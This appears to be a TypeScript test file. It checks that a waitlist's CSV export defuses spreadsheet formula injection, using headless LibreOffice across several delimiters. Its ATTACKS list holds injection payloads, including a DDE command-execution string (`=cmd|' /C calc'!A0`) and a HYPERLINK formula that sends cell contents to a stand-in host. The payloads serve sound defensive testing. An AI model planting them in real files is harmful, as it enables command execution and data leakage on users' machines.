import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { DELIMITERS } from '../../infra/operator/transfer/export-csv.ts';
import { personRow, putRows } from '../infra/operator/stored-list.ts';
import { waitlist } from '../infra/operator/run-waitlist.ts';
import { openAwsEndpoints } from '../lambdas/aws-endpoints.ts';
import { type Check, runChecks } from '../run-checks.ts';
import * as fc from 'fast-check';
import { toVisibleLine } from '#shared/contract/text.ts';
import type { WaitlistRow } from '../../lambdas/store/row.ts';
import { execFileSync } from 'node:child_process';
import { pathToFileURL } from 'node:url';
import { installPackages } from '../../infra/build/browser.ts';

type Name = keyof typeof DELIMITERS;

const NAMES = Object.keys(DELIMITERS) as readonly Name[];
const COLUMNS = 'email,company,location,source';
/** Marks a cell that LibreOffice computes. */
const FORMULA = /table:formula="([^"]*)"/g;

const folder = mkdtempSync(join(tmpdir(), 'spreadsheet-'));
/** Exports a hostile list once with each delimiter, and writes an undefused file beside each. */
async function writeExports(): Promise<void> {
  const aws = await openAwsEndpoints();
  try {
    await putRows(hostilePeople());
    for (const name of NAMES) {
      const args = ['export', '--columns', COLUMNS, '--delimiter', name, '--out', fileOf(name)];
      const { code } = await waitlist(args);
      assert.equal(code, 0);
      writeFileSync(fileOf(`control-${name}`), `x${DELIMITERS[name]}=1+1\r\n`);
    }
  } finally {
    await aws.close();
  }
}

/** Opens every file in a spreadsheet that splits cells at one delimiter. */
async function checkOpenedAt(name: Name, soffice: string, check: Check): Promise<void> {
  const settings = { splitAt: DELIMITERS[name], profileFolder: join(folder, 'profile') };
  const outputFolder = join(folder, `at-${name}`);
  const files = [...NAMES.map(fileOf), fileOf(`control-${name}`)];
  convert(soffice, { ...settings, files, to: 'fods', outputFolder });
  convert(soffice, { ...settings, files: [fileOf(name)], to: 'csv', outputFolder });
  const formulasIn = (file: string) =>
    [...readFileSync(join(outputFolder, `${file}.fods`), 'utf8').matchAll(FORMULA)].map(
      ([, formula]) => formula,
    );

  await check(`an undefused formula is found, split at the ${name}`, () =>
    assert.deepEqual(formulasIn(`control-${name}`), ['of:=1+1']),
  );
  for (const written of NAMES) {
    await check(`a list written with the ${written} has no formula, split at the ${name}`, () =>
      assert.deepEqual(formulasIn(written), []),
    );
  }
  await check(`a list with the ${name} shows every value, umlauts included`, () => {
    const shown = parse(readFileSync(join(outputFolder, `${name}.csv`)), { bom: true });
    const exported = parse(readFileSync(fileOf(name)), { bom: true, delimiter: settings.splitAt });
    assert.deepEqual(shown, exported);
    assert.match(JSON.stringify(shown), /Müller & Söhne; Genève, Zürich/);
  });
}

function fileOf(name: string): string {
  return join(folder, `${name}.csv`);
}

/** Inputs with which an attacker makes a spreadsheet run a formula. */
const ATTACKS = [
  '=1+1',
  '=HYPERLINK("https://x.example/?"&A1;"Zürich")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '＝1+1',
  'x";=1+1;"',
  'x",=1+1,"',
  'x;=1+1',
  'x,=1+1',
  'x;"=1+1"',
  ';;=1+1',
  '";=1+1',
  '";"=1+1',
  `';=1+1`,
  'Müller & Söhne; Genève, Zürich',
];

const SIGNS = ['=', '+', '-', '@', '"', "'", ',', ';', ' ', '1', 'ü'];
const RANDOM = 400;

/** People whose texts are attacks, and others of random characters, the same in every run. */
export function hostilePeople(): readonly WaitlistRow[] {
  const random = fc.sample(
    fc.string({ unit: fc.constantFrom(...SIGNS), minLength: 1, maxLength: 12 }),
    { seed: 1, numRuns: RANDOM },
  );
  return [...ATTACKS, ...random].map((text, number) => {
    const value = toVisibleLine(text) || '-';
    return personRow(number, { company: value, location: `Genève ${value}`, source: value });
  });
}

const PACKAGE = 'libreoffice-calc';
const MAC_PATH = '/Applications/LibreOffice.app/Contents/MacOS/soffice';

/** Codes of LibreOffice's CSV filter: double quote, UTF-8, and the first line to read. */
const FILTER = { quote: 34, utf8: 76, firstLine: 1 } as const;

/** Finds LibreOffice, or installs it where no password is needed. Throws one sentence. */
export function ensureSoffice(): string {
  const found = findSoffice();
  if (found) return found;
  console.log('No LibreOffice found: installing it once for the spreadsheet tests.');
  try {
    installPackages('--no-install-recommends', PACKAGE);
  } catch (cause) {
    throw new Error(NO_SOFFICE, { cause });
  }
  const installed = findSoffice();
  if (!installed) throw new Error(NO_SOFFICE);
  return installed;
}

const NO_SOFFICE = `The spreadsheet tests need LibreOffice. On Debian: apt-get install -y --no-install-recommends ${PACKAGE}`;

function findSoffice(): string | undefined {
  const folders = (process.env['PATH'] ?? '').split(delimiter);
  const paths = [
    process.env['SOFFICE_PATH'],
    ...folders.map((at) => join(at, 'soffice')),
    MAC_PATH,
  ];
  return paths.find((path): path is string => Boolean(path) && existsSync(String(path)));
}

export interface Conversion {
  readonly files: readonly string[];
  /** The character that separates cells. */
  readonly splitAt: string;
  /** `fods` has formulas and values as XML, `csv` has what is shown, with commas. */
  readonly to: 'fods' | 'csv';
  readonly outputFolder: string;
  /** The profile of a separate LibreOffice, which can run beside an open one. */
  readonly profileFolder: string;
}

/** Opens CSV files as a spreadsheet with a country's delimiter does, and saves the result. */
export function convert(soffice: string, conversion: Conversion): void {
  const { files, splitAt, to, outputFolder, profileFolder } = conversion;
  const filter = (separator: string) =>
    [separator.charCodeAt(0), FILTER.quote, FILTER.utf8, FILTER.firstLine].join(',');
  const target = to === 'fods' ? 'fods' : `csv:Text - txt - csv (StarCalc):${filter(',')}`;
  execFileSync(
    soffice,
    [
      `-env:UserInstallation=${pathToFileURL(profileFolder).href}`,
      '--headless',
      `--infilter=CSV:${filter(splitAt)}`,
      '--convert-to',
      target,
      '--outdir',
      outputFolder,
      ...files,
    ],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  );
}

try {
  await runChecks('spreadsheet', async (check) => {
    const soffice = ensureSoffice();
    await writeExports();
    for (const splitAt of NAMES) await checkOpenedAt(splitAt, soffice, check);
  });
} finally {
  rmSync(folder, { recursive: true, force: true });
}
